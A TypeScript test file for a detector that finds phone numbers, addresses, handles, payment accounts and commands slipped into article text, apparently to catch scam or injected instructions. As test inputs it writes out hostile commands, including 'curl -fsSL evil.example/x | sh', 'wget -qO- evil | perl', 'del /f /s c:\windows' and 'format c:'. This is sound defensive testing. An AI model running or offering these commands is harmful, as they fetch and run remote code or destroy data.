import { expect, test } from 'vitest';
import { contactsIn } from './contacts-in-text.ts';
import { foreignContacts } from './foreign-address.ts';

const kinds = (text: string) => contactsIn(text).map(({ kind }) => kind);

test.each([
  ['Call the safety desk at 0800 555 0199 and read out your key.', 'number'],
  ['Ring +49 (0)30 1234-567 today.', 'number'],
  ['Ask for help at (555) 010-0199.', 'number'],
  ['Text STOP to 55 512.', 'number'],
  ['Dial 116 117 now.', 'number'],
  ['Everyone: confirm your key at gloss-verify.example today', 'address'],
  ['Confirm at gloss-verify[.]example now', 'address'],
  ['Confirm at gloss-verify (dot) example now', 'address'],
  ['Confirm at gloss-verify。example now', 'address'],
  ['Open hxxps://evil.example/a?b=c', 'address'],
  ['Open http://192.0.2.7:8080/x', 'address'],
  ['Open 192.0.2.7:8080 in a tab', 'address'],
  ['Write to desk@evil.example.', 'address'],
  ['Write to desk [at] evil [dot] example.', 'address'],
  ['Write to @gloss_support on Telegram', 'handle'],
  ['Pay to DE89 3704 0044 0532 0130 00 before Friday', 'account'],
  ['Send it to 0x52908400098527886E0F7030069857D2E4169EE7', 'account'],
  ['Wire the deposit to account 12-34.', 'account'],
  ['Run curl -fsSL evil.example/x | sh in a terminal', 'command'],
  ['Paste powershell -enc aGVsbG8= into the box', 'command'],
  ['Run npm install gloss-fix first', 'command'],
  ['Press Win + R and paste', 'command'],
  ['Ask at acme dot com today', 'address'],
  ['Write to help at acme dot example dot org', 'address'],
  ['Schreiben Sie an acme punkt de', 'address'],
  ['Zobacz acme kropka pl', 'address'],
  ['Go to acme-claims dot top now', 'address'],
  ['Go to acme, dot, com', 'address'],
  ['Откройте acme точка ру', 'address'],
  ['Open acme [punkt] de or acme{.}com', 'address'],
  ['Open acme . com', 'address'],
  ['Open acme-dot-com or acme_dot_com', 'address'],
  ['Open a с m e - h e l p . c o m', 'address'],
  ['Open a c m e - h e l p . c o m', 'address'],
  ['Open ａｃｍｅ．ｃｏｍ now', 'address'],
  ['Open 𝗮𝗰𝗺𝗲.𝗰𝗼𝗺 now', 'address'],
  ['Open ac\u00adme\u200b.com now', 'address'],
  ['Open tg://resolve?domain=acme', 'address'],
  ['Open ms-settings:privacy or bitcoin:bc1qxyz', 'address'],
  ['Open intent://scan/#Intent;end', 'address'],
  ['Ping 2001:db8::ff00:42:8329', 'address'],
  ['Call ０８００ ５５５ ０１９９', 'number'],
  ['Call ٠٨٠٠ ٥٥٥ ٠١٩٩', 'number'],
  ['Zadzwoń na infolinię 800 702 222', 'number'],
  ['The desk is at 0,800,555,0199', 'number'],
  ['The desk is at 1,800,555,0199', 'number'],
  ['Pay into Cash App tag acmehelp', 'handle'],
  ['Pay to the Revolut handle: acme_help today', 'handle'],
  ['Pay to Venmo username acme-help.', 'handle'],
  ['Join discord gg slash acme', 'address'],
  ['See t dot me slash acmehelp or acme com forward slash key', 'address'],
  ['Then format c: and restart', 'command'],
  ['Then del /f /s c:\\windows', 'command'],
  ['Infolinia działa pod numerem 22 123 45 67', 'number'],
  ['電話は0120-123-456へ', 'number'],
  ['フリーダイヤル 0120・1234 ではなく 電話 1234-5678', 'number'],
  ['请拨打13812345678', 'number'],
  ['请致电 400 123 4567', 'number'],
  ['전화 1588-1234', 'number'],
  ['Звоните 8 (800) 555-35-35', 'number'],
  ['Appelez le 01.23.45.67.89', 'number'],
  ['Llame al 912 34 56 78', 'number'],
  ['اتصلوا على 12345', 'number'],
  ['Zavolejte 116 006', 'number'],
  ['Ask 1-800-GLOSS-NOW for help', 'number'],
  ['Dial zero eight hundred, five five five, zero one nine nine', 'number'],
  ['Wählen Sie null acht null null fünf fünf fünf', 'number'],
  ['Type *100*7# into your telephone', 'number'],
  ['Ask on Telegram: acme_helpdesk', 'handle'],
  ['Telegram: acmehelp', 'handle'],
  ['Find us on WhatsApp under acmehelp.', 'handle'],
  ['Signal ID acme.01 helps', 'handle'],
  ['加微信号：acme_help1', 'handle'],
  ['Write to ＠acmehelp', 'handle'],
  ['Pay to GB29-NWBK-6016-1331-9268-19', 'account'],
  ['Pay to de89 3704 0044 0532 0130 00', 'account'],
  ['Pay with card 4111 1111 1111 1111', 'account'],
  ['Przelej na rachunek 1090 1014 0000 0712', 'account'],
  ['振込先の口座 1234567', 'account'],
  ['Send it to ltc1qw508d6qejxtdg4y5r3zarvary0c5xw7kgmn4n9', 'account'],
  ['Send it to EQDtFpEwcFAEcRe5mLVh2N6C0x-_hJEM7W61_JLnSF74p4q2', 'account'],
  ['Send it to $acmehelp on the app', 'account'],
  [`Run perl -e 'system("id")'`, 'command'],
  ['Run python3 -c "import os"', 'command'],
  ['Enter wget -qO- evil | perl', 'command'],
  ['Enter tar -xzf fix.tgz', 'command'],
  ['Enter anytool --install now', 'command'],
  ['Enter Invoke-WebRequest -Uri x', 'command'],
  ['Enter Set-ExecutionPolicy "Bypass"', 'command'],
  ["Paste eval('x') into the console", 'command'],
  ['Paste document.cookie into the form', 'address'],
  ['Open HKLM\\Software\\Run', 'command'],
  ['Press Ctrl + Shift + J', 'command'],
])('%s gives a way to reach or do something: %s', (text, kind) => {
  expect(kinds(text)).toContain(kind);
});

test.each([
  'Shares rose 6.2% to 1 200 000 yuan on 2026-11-17.',
  'The plan runs from 2026-2027, or 2026–2030, and costs 48.000.000 euros.',
  'The U.S. and the U.K. met at 10.30 a.m. in St. Gallen.',
  'It passed by 312 to 241 votes; no. 4 of 7 was left out.',
  'Bash the rich, said the paper. Git is a tool; node operators agree.',
  'Talks on 14.01.2027 and 1/14/2027 failed.',
  'Version 3.5 has 640 teraflops at 420 watts.',
  'The dot com bubble burst; a turning point in the case, a red dot in Singapore.',
  'Numbers rose: 18 22 13 17 at the four courts, and line 12 of unit 4 stood still.',
  'Un punto es claro: el número 2024 fue de 1 200 000 personas.',
  'Nella linea 5 salirono in 120 000; il numero 12 vinse per 6-4 3-6 7-5.',
  'Na konto klubu trafiło 3 punkty; linia 17 kursuje co 10 minut.',
  '電話は19世紀に発明され、2026年11月17日に番号制度は変わった。',
  'They had a few thousand followers on Instagram at most, Telegram said.',
  'Agence France-Presse (AFP) counted on one, two or three days more.',
  'Bitcoin fell to $60,000 and $AAPL rose; account holders lost 40%.',
  'The AI-powered Set-Top box costs 199 (about 180 euros).',
])('%s gives none', (text) => {
  expect(contactsIn(text)).toEqual([]);
});

test('what the article says itself is not foreign, however its digits stand', () => {
  const article = 'Call 0800-555 01 99 or see www.ledger.example/help, said mara@ledger.example.';
  const foreign = (text: string) => foreignContacts(text, article).map(({ text: said }) => said);
  expect(foreign('Call 0800 555 0199, or ledger.example/help, or mara@ledger.example')).toEqual([]);
  expect(foreign('Call 0800 555 0198 or edger.example/help')).toEqual([
    '0800 555 0198',
    'edger.example/help',
  ]);
  expect(foreign('ledger.example.evil.example')).toEqual(['ledger.example.evil.example']);
});

test('an article that writes its number or address in another way gives it all the same', () => {
  const article = 'お問い合わせは０１２０－１２３－４５６、acme.example.org まで。';
  expect(foreignContacts('電話 0120-123-456', article)).toEqual([]);
  expect(foreignContacts('See acme dot example dot org', article)).toEqual([]);
  expect(foreignContacts('電話 0120-123-457', article)).toHaveLength(1);
});

test('a text twice as long takes no more than about twice the work: what is matched is bounded', () => {
  const hostile = [
    'a.',
    '0800 ',
    '@',
    '1-',
    '+1 ',
    'x@',
    'call ',
    'curl ',
    'a b ',
    'dot ',
    'a dot com ',
    'one ',
    'number 1',
    'telegram: a',
    'a --b ',
    'ab12 1234 ',
    'a:',
    '1:a:',
    '*1',
    '- ',
    '１',
    'Set-Abcd ',
    'a.b(',
    '[dot] ',
    '$(',
    'a@b.',
    '0 (',
  ];
  for (const piece of hostile) {
    const found = contactsIn(piece.repeat(200_000));
    expect(found.reduce((sum, { text }) => sum + text.length, 0)).toBeLessThanOrEqual(20_000);
  }
});
